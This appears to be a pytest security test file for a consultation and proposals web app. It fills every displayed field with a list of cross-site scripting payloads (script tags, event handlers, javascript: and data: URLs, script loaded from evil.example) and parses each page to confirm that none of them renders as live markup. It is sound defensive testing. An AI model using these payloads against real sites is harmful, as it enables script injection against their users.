"""Cross-site scripting: a corpus of payloads in every field that is shown back, and every page
that shows it parsed for anything that would run.

Each stored field starts with a marker ("xf-<field>") so the test also proves that the page
really displays the field: a page that simply omitted it would pass the markup checks.
"""

from datetime import timedelta
from html.parser import HTMLParser

import pytest

from app.consultations.models import Comment, CommentResponse, ResponseDecision, Section
from app.core.timeutil import local_today, utcnow
from app.extensions import db
from app.moderation.models import Flag, ModerationStatus, ReasonCode
from app.proposals.models import Stage
from tests.security.conftest import log_in
from tests.security.world import _document, _optional_models

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  java\tscript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](https://example.org "t\\" onmouseover=\\"alert(1))',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>*{background:url(//evil.example/x)}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "javascript:alert(1)",
    'http://example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    'https://x.example/?a=1&b="><svg/onload=alert(1)>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }}{% if 1 %}jinja{% endif %}<%= 7*7 %>",
    "\u202e<script>alert(1)</script>\u202c",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "style", "frame", "frameset", "applet"}


class Inspector(HTMLParser):
    """Collects everything in a page that could run script or load foreign code."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            src = attributes.get("src") or ""
            if not src.startswith("/static/"):
                self.problems.append(f"<script> not from /static/: {attrs}")
            self.in_script = True
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> {attrs}")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append(f"<meta http-equiv> {attrs}")
        if tag == "img" and not (attributes.get("src") or "").startswith("/"):
            self.problems.append(f"<img> from elsewhere: {attrs}")
        if tag == "form" and (attributes.get("action") or "/")[:1] not in ("/", "?", "#"):
            self.problems.append(f"<form> posting elsewhere: {attrs}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style= on <{tag}>")
            if name in URL_ATTRIBUTES and value:
                cleaned = "".join(ch for ch in value if ch > " ").lower()
                if cleaned.startswith(BAD_SCHEMES):
                    self.problems.append(f"{name}={value!r} on <{tag}>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.in_script = False

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append(f"inline script: {data[:60]!r}")


def problems_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


def test_the_inspector_catches_what_it_looks_for():
    """The checks themselves can fail (each of these is a finding)."""
    for bad in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href=" jav&#x09;ascript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<p style="color:red">x</p>',
        "<iframe></iframe>",
        '<form action="https://evil.example/"></form>',
    ):
        assert problems_in(bad), bad
    assert problems_in('<script src="/static/js/glas.js"></script><a href="/x">x</a>') == []


def mark(field: str, payload: str, limit: int | None = None) -> str:
    value = f"xf-{field} {payload}"
    return value[:limit] if limit else value


def joined(field: str, payloads) -> str:
    """Every payload in one long text, a paragraph each (Markdown and plain text alike)."""
    return "\n\n".join(mark(field, payload) for payload in payloads)


def build(make, people, payloads) -> dict:
    """Every field a person or staff can fill, holding the payloads.

    Long texts hold all of them, a paragraph each; short fields (names, titles) get one
    payload per object: one author, consultation, proposal and category per payload.
    """
    other, staff, moderator = people["other"], people["staff"], people["moderator"]
    first = payloads[0]
    other.display_name = mark("name", first, 80)
    other.organisation = mark("org", first, 160)
    consultation = make.consultation(
        "open",
        sections=0,
        title_bg=mark("ctitle", first, 300),
        title_en=mark("ctitle", first, 300),
        summary_bg=joined("csummary", payloads),
        summary_en=joined("csummary", payloads),
        body_bg=joined("cbody", payloads),
        body_en=joined("cbody", payloads),
        exceptional_reason_bg=joined("creason", payloads),
        exceptional_reason_en=joined("creason", payloads),
        # A period shorter than 30 days: the exceptional reason is shown.
        opens_on=local_today() - timedelta(days=1),
        closes_on=local_today() + timedelta(days=15),
    )
    consultation.sections.append(
        Section(
            position=0,
            heading_bg=mark("sheading", first, 300),
            heading_en=mark("sheading", first, 300),
            body_bg=joined("sbody", payloads),
            body_en=joined("sbody", payloads),
        )
    )
    db.session.commit()
    doc = _document(consultation, staff)
    doc.title = mark("doctitle", first, 300)
    comment = make.comment(consultation, other, body=joined("comment", payloads))
    reply = make.comment(consultation, other, body=joined("reply", payloads), parent=comment)
    make.comment(
        consultation, other, status=ModerationStatus.PENDING, body=joined("pending", payloads)
    )
    flagged = make.comment(consultation, other, body=joined("flagged", payloads))
    db.session.add(
        Flag(
            user_id=people["citizen"].id,
            comment_id=flagged.id,
            reason=ReasonCode.SPAM,
            note=joined("flagnote", payloads),
        )
    )
    # A report with a response, published.
    reported = make.consultation(
        "report_published", title_en=mark("rtitle", first, 300), title_bg=mark("rtitle", first)
    )
    answered = make.comment(reported, other, body=joined("rcomment", payloads))
    db.session.add(
        CommentResponse(
            comment=answered,
            decision=ResponseDecision.NOT_ACCEPTED,
            reason_bg=joined("rreason", payloads),
            reason_en=joined("rreason", payloads),
            responded_by_id=staff.id,
        )
    )
    proposal = None
    for payload in payloads:
        author = (
            other
            if payload is first
            else make.citizen(
                display_name=mark("name", payload, 80), organisation=mark("org", payload, 160)
            )
        )
        make.comment(consultation, author, body=f"xf-authored {len(payload)}")
        make.consultation(
            title_en=mark("ctitle", payload, 300), summary_en=mark("csummary", payload)
        )
        category = make.category(
            name_bg=mark("category", payload, 120), name_en=mark("category", payload, 120)
        )
        made = make.proposal(
            author,
            title=mark("ptitle", payload, 200),
            body=joined("pbody", payloads),
            category_id=category.id,
            answer_bg=joined("panswer", payloads),
            answer_en=joined("panswer", payloads),
            stage=Stage.REJECTED,
            answered_at=utcnow(),
            first_answered_at=utcnow(),
            answered_by_id=staff.id,
        )
        proposal = proposal or made
        make.proposal(
            author,
            status=ModerationStatus.PENDING,
            title=mark("pendingtitle", payload, 200),
            body=mark("pendingbody", payload),
        )
    # What the author sees on their profile: a rejection with the moderator's note.
    rejected = make.comment(
        consultation,
        other,
        status=ModerationStatus.REJECTED,
        body=joined("rejected", payloads),
        moderation_reason=ReasonCode.OFF_TOPIC,
        moderation_note=joined("modnote", payloads),
        moderated_by_id=moderator.id,
    )
    models = _optional_models()
    if "Appeal" in models:
        db.session.add(
            models["Appeal"](
                comment_id=rejected.id,
                author_id=other.id,
                body=joined("appeal", payloads),
                original_status=ModerationStatus.REJECTED,
                original_moderator_id=moderator.id,
            )
        )
    suspended = make.citizen(display_name=mark("name", first, 80))
    if "Suspension" in models:
        db.session.add(
            models["Suspension"](
                user_id=suspended.id,
                reason=joined("suspension", payloads),
                ends_at=utcnow() + timedelta(days=3),
                created_by_id=moderator.id,
            )
        )
    if "Notification" in models:
        db.session.add(
            models["Notification"](
                user_id=other.id,
                kind="comment.reject",
                object_type="comment",
                object_id=rejected.id,
                reason=ReasonCode.OFF_TOPIC.value,
                note=joined("notice", payloads),
            )
        )
    db.session.commit()
    return {
        "consultation": consultation,
        "reported": reported,
        "proposal": proposal,
        "comment": comment,
        "reply": reply,
        "suspended": suspended,
    }


# (who looks, the page, the fields that page must show)
PAGES = [
    ("anonymous", lambda w: "/?lang=en", ["ctitle"]),
    ("anonymous", lambda w: "/consultations/?lang=en", ["ctitle", "csummary"]),
    (
        "anonymous",
        lambda w: f"/consultations/{w['consultation'].id}?lang=en",
        ["ctitle", "csummary", "cbody", "creason", "sheading", "sbody", "doctitle", "comment"]
        + ["reply", "name", "org"],
    ),
    (
        "anonymous",
        lambda w: f"/reports/consultations/{w['reported'].id}?lang=en",
        ["rtitle", "rcomment", "rreason"],
    ),
    ("anonymous", lambda w: "/proposals/?lang=en", ["ptitle", "category"]),
    (
        "anonymous",
        lambda w: f"/proposals/{w['proposal'].id}?lang=en",
        ["ptitle", "pbody", "panswer", "category"],
    ),
    ("anonymous", lambda w: "/search?lang=en&q=xf-ptitle", ["ptitle"]),
    ("moderator", lambda w: "/moderation/?lang=en", ["pending", "pendingtitle", "pendingbody"]),
    ("moderator", lambda w: "/moderation/?show=flagged&lang=en", ["flagged", "flagnote"]),
    ("other", lambda w: "/account/profile?lang=en", ["name", "org", "rejected", "modnote"]),
    ("other", lambda w: "/notifications/?lang=en", ["notice"]),
    ("moderator", lambda w: "/moderation/?show=appeals&lang=en", ["appeal", "modnote"]),
    (
        "moderator",
        lambda w: f"/moderation/accounts/{w['suspended'].id}?lang=en",
        ["suspension", "name"],
    ),
    ("admin", lambda w: "/admin/users?lang=en", ["name", "org"]),
    ("staff", lambda w: "/staff/?lang=en", ["ctitle"]),
    ("staff", lambda w: f"/staff/consultations/{w['consultation'].id}?lang=en", ["sheading"]),
    (
        "staff",
        lambda w: f"/staff/consultations/{w['consultation'].id}/responses?lang=en",
        ["comment"],
    ),
    ("staff", lambda w: "/proposals/categories?lang=en", ["category"]),
    ("staff", lambda w: f"/staff/consultations/{w['consultation'].id}/edit?lang=en", ["ctitle"]),
    ("staff", lambda w: f"/proposals/{w['proposal'].id}/answer?lang=en", ["panswer"]),
]


GROUPS = 4


@pytest.mark.parametrize("group", range(GROUPS))
def test_no_payload_reaches_a_page_as_markup(app, make, people, group):
    payloads = PAYLOADS[group::GROUPS]
    world = build(make, people, payloads)
    clients = {}
    wrong = []
    for who, url_of, fields in PAGES:
        if who not in clients:
            clients[who] = app.test_client()
            if who != "anonymous":
                log_in(clients[who], people[who])
        url = url_of(world)
        response = clients[who].get(url)
        if response.status_code != 200:
            wrong.append(f"{url} as {who}: {response.status_code}")
            continue
        html = response.get_data(as_text=True)
        wrong += [f"{url} as {who}: {problem}" for problem in problems_in(html)]
        wrong += [f"{url} as {who}: does not show xf-{f}" for f in fields if f"xf-{f} " not in html]
    assert wrong == []


@pytest.mark.parametrize("payload", PAYLOADS[:12])
def test_the_search_query_is_echoed_as_text(client, payload):
    response = client.get("/search", query_string={"q": payload})
    assert response.status_code == 200
    assert problems_in(response.get_data(as_text=True)) == []


@pytest.mark.parametrize("payload", PAYLOADS[:12])
def test_a_rejected_form_echoes_input_as_text(client, make, people, payload):
    """Input shown back in a form after a validation error is escaped too."""
    consultation = make.consultation()
    log_in(client, people["citizen"])
    response = client.post(
        f"/consultations/{consultation.id}/comments",
        data={"body": payload, "language": "xx-invalid", "section_id": ""},
    )
    assert response.status_code in (200, 400)
    assert problems_in(response.get_data(as_text=True)) == []
    assert db.session.query(Comment).count() == 0
    # Registration echoes the display name and organisation.
    client.post("/account/logout")
    response = client.post(
        "/account/register",
        data={"email": "not-an-email", "display_name": payload[:80], "organisation": payload},
    )
    assert response.status_code == 200
    assert problems_in(response.get_data(as_text=True)) == []
